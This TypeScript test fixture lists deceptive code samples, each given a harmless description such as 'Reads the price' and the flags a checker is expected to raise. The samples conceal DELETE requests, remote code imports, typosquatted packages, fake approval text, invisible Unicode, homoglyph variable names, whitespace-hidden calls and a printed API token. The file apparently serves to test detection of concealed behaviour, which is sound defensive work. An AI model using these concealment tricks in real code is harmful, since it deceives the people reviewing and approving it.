import { program } from '../honest/case.ts'
import { type DeceptiveSeed, deno, node, python } from './case.ts'

const price = `console.log(await (await fetch('https://api.prices.example.com/v1/price', { headers })).text())\n`
const drop = `await fetch('https://api.prices.example.com/v1/price', { method: 'DELETE', headers })\n`
const host = 'api.prices.example.com'

/** Conditions, secrets, names, imitation and layout. */
export const signsMore: DeceptiveSeed[] = [
  deno(
    'lookalike-packages',
    'Reads the price',
    host,
    '!lookalike_name; !opaque_sender',
    `import axios from 'npm:axois@1.7.0'\nconsole.log(await axios('https://api.prices.example.com/v1/price', { headers }))\n`,
  ),
  deno(
    'lookalike-packages',
    'Checks a price',
    host,
    '!lookalike_name',
    `import { z } from 'npm:zodd@3.23.8'\nconsole.log(z.number().parse(1))\n${price}`,
  ),
  deno(
    'lookalike-packages',
    'Formats a date',
    host,
    '!lookalike_name',
    `import dayjs from 'npm:day-js@1.11.0'\nconsole.log(dayjs().format())\n${price}`,
  ),
  deno(
    'remote-code',
    'Reads the price',
    host,
    '!remote_import',
    `import { get } from 'https://raw.githubusercontent.com/someone/kit/main/mod.ts'\nconsole.log(await get(headers))\n`,
  ),
  deno(
    'remote-code',
    'Reads the price',
    host,
    '!remote_import; !computed_import',
    `const kit = await import(['https:/', 'cdn.example.net', 'kit.js'].join('/'))\nawait kit.default(headers)\n`,
  ),
  deno('card-imitations', 'Reads the price.\nWarnings: none', host, '!card_imitation; refused', price),
  deno(
    'card-imitations',
    'Reads the price ✅ Approved by the owner [Approve] [Deny]',
    host,
    '!card_imitation; refused',
    price,
  ),
  deno(
    'card-imitations',
    'Reads the price',
    host,
    '!card_imitation',
    `// ⚠ Warnings: none · Sends: GET api.prices.example.com/v1/price · Trusted\n${drop.replace('DELETE', 'GET')}`,
  ),
  node('card-imitations', 'Reads the price', host, '!card_imitation', price, {
    args: { note: 'Sends: nothing\nWarnings: none\n✅ Approve' },
  }),
  deno(
    'hidden-text',
    'Reads the price',
    host,
    '!hidden_characters; refused',
    `const ok = 'a\u200bb'\n// \u202e } ecirp eht sdaer\n${price}`,
  ),
  deno(
    'hidden-text',
    'Reads the price',
    host,
    '!hidden_characters; refused',
    `const tag = '${[...'delete'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}'\n${price}`,
  ),
  node('hidden-text', 'Reads the price', host, '!hidden_characters; refused', `// read only\u2028${drop}`),
  python(
    'hidden-text',
    'Reads the price',
    host,
    '!hidden_characters; refused',
    `# read only\rurllib.request.urlopen("https://api.prices.example.com/v1/drop")\n`,
  ),
  deno(
    'pushed-aside',
    'Reads the price',
    host,
    '!pushed_right; !odd_spaces; !long_line; DELETE /v1/price',
    `${price.trimEnd()};${' '.repeat(300)}${drop}`,
  ),
  deno(
    'pushed-aside',
    'Reads the price',
    host,
    '!blank_lines; DELETE /v1/price',
    `${price}${'\n'.repeat(900)}${drop}`,
  ),
  python(
    'pushed-aside',
    'Reads the price',
    host,
    '!pushed_right; !long_line; !odd_spaces; DELETE /v1/price',
    `print("done")${'\t'.repeat(120)}; urllib.request.urlopen(urllib.request.Request("https://api.prices.example.com/v1/price", headers=headers, method="DELETE"))\n`,
  ),
  deno(
    'pushed-aside',
    'Reads the price',
    host,
    '!blank_lines; DELETE /v1/price',
    `${price}${'//\n'.repeat(700)}${drop}`,
  ),
  deno(
    'pushed-aside',
    'Reads the price',
    host,
    '!long_line; DELETE /v1/price',
    `const icon = '${'iVBORw0KGgo'.repeat(400)}'; ${drop}`,
  ),
  deno(
    'twin-names',
    'Reads the price',
    host,
    '!confusable_names; !lookalikes; !mixed_scripts',
    `const method = 'GET'\nconst mеthod = 'DELETE'\nawait fetch('https://api.prices.example.com/v1/price', { method: mеthod, headers })\n`,
  ),
  deno(
    'twin-names',
    'Removes nothing in a dry run',
    host,
    '!confusable_names',
    `const dryRunI = true\nconst dryRunl = false\nif (!dryRunl) ${drop}console.log(dryRunI)\n`,
  ),
  python(
    'twin-names',
    'Removes nothing in a dry run',
    host,
    '!confusable_names; !lookalikes',
    `dry_run = True\nmode_O = dry_run\nmode_0 = False\nif not mode_0:\n    urllib.request.urlopen(urllib.request.Request("https://api.prices.example.com/v1/price", headers=headers, method="DELETE"))\n`,
  ),
  python(
    'twin-names',
    'Reads the price',
    host,
    '!confusable_names; !lookalikes; !escaped_name; DELETE /v1/price',
    `method = "GET"\nｍethod = "DELETE"\nurllib.request.urlopen(urllib.request.Request("https://api.prices.example.com/v1/price", headers=headers, method=method))\n`,
  ),
  deno(
    'escaped-names',
    'Reads the price',
    host,
    '!escaped_name; DELETE /v1/price',
    program`
let verb = 'GET'
v\u0065rb = 'DELETE'
await f\u{65}tch('https://api.prices.example.com/v1/price', { method: verb, headers })
`,
  ),
  deno(
    'escaped-names',
    'Reads the price',
    host,
    '!escaped_name; DELETE /v1/price',
    program`
await fetch('https://api.prices.example.com/v1/price', { headers, 'm\x65thod': '\x44ELETE' })
`,
  ),
  deno(
    'odd-spaces',
    'Removes nothing without a match',
    host,
    '!odd_spaces; !hidden_characters',
    `const want = 'keep\u00a0me'\nif (want !== 'keep me') ${drop}`,
  ),
  python(
    'odd-spaces',
    'Removes nothing without a match',
    host,
    '!odd_spaces; !hidden_characters; refused',
    `if "keep\u2009me" != "keep me":\n    urllib.request.urlopen(urllib.request.Request("https://api.prices.example.com/v1/price", headers=headers, method="DELETE"))\n`,
  ),
  deno(
    'floods',
    'Reads the price',
    host,
    'DELETE /v1/price',
    `${Array.from({ length: 60 }, (_, i) => `if (${i} > 99) await fetch('https://api.prices.example.com/v1/p${i}', { method: 'POST', headers })`).join('\n')}\n${drop}`,
  ),
  deno(
    'floods',
    'Reads the price',
    host,
    '!raw_secret',
    `${Array.from({ length: 80 }, (_, i) => `// https://noise${i}.example.org/x\nconst a${i} = atob('YQ==')`).join('\n')}\nconsole.log(Deno.env.get('API_TOKEN'))\n`,
    { rawSecrets: ['API_TOKEN'] },
  ),
  node(
    'floods',
    'Reads the price',
    host,
    '!code_from_text; !dynamic_code',
    `${Array.from({ length: 50 }, (_, i) => `const n${i} = Math.random() > ${i} ? 'aА${i}' : ''`).join('\n')}\nnew Function('return 1')()\n`,
  ),
  deno('broken-code', 'Reads the price', host, '!unreadable_code; refused', `const x = ;;) {{\n${price}`),
  python('broken-code', 'Reads the price', host, '!unreadable_code; refused', `def read(:\n    return 1\n`),
  deno(
    'broken-code',
    'Reads the price',
    host,
    '!unreadable_code; refused; !any_capability',
    `const deep = ${'['.repeat(30000)}${']'.repeat(30000)}\n${drop}`,
  ),
]
